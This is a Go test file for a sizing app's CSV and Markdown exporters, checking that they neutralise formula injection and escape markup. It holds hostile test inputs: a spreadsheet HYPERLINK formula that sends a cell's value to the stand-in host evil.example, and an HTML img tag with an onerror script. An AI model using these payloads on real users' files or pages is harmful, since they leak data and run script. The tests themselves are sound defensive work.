package app

import (
	"encoding/csv"
	"strings"
	"testing"

	"rightsize/app/page"
)

// TestExportNeutralisesFormulas: a price sheet's source and a custom
// instance type reach the CSV; a spreadsheet must show them as text, not
// run them (formula injection).
func TestExportNeutralisesFormulas(t *testing.T) {
	c, _ := load(t)
	if len(c.ps.Out.Cands) == 0 {
		t.Fatal("no candidate offers to export")
	}
	id := c.ps.Out.Cands[0].Offer.ID
	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
	if !c.applySheet(none, "shared.csv", sheet) {
		t.Fatalf("sheet refused: %s", c.sheet.Err)
	}
	recs, err := csv.NewReader(strings.NewReader(page.ExportCSV(c.viewIn()))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("a CSV cell a spreadsheet would run: %q", cell)
			}
			found = found || strings.Contains(cell, "HYPERLINK")
		}
	}
	if !found {
		t.Error("the sheet's source is not in the export: the test checks nothing")
	}
}

// TestExportMarkdownEscapes: a custom model's name from a link ends up in a
// wiki page: pipes, HTML and Markdown marks are escaped, each figure is
// labelled by what it is.
func TestExportMarkdownEscapes(t *testing.T) {
	c, _ := load(t)
	c.applyFragment(none, "m=custom&cfgn="+strings.NewReplacer("|", "%7C", "<", "%3C", ">", "%3E", " ", "%20", "!", "%21").Replace("x|y <img src=x onerror=alert(1)> ![t](http://e.example/p.png)")+
		"&cfg="+page.Deflate(`{"model_type":"llama","hidden_size":256,"intermediate_size":512,"num_hidden_layers":2,"num_attention_heads":4,"vocab_size":1000}`))
	md := page.ExportMarkdown(c.viewIn())
	if c.own.name == "" || !strings.Contains(md, "x\\|y") {
		t.Fatalf("the custom name is not in the export (%q):\n%s", c.own.name, md)
	}
	for _, bad := range []string{"<img", "![", "[t](", "x|y"} {
		if strings.Contains(md, bad) {
			t.Errorf("Markdown export carries %q raw:\n%s", bad, md)
		}
	}
	for _, line := range strings.Split(md, "\n") {
		if n := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|"); strings.HasPrefix(line, "|") && n != 4 && n != 7 { // the breakdown (3 columns) and the picks (6)
			t.Errorf("a table row with %d cell borders: %q", n, line)
		}
	}
}
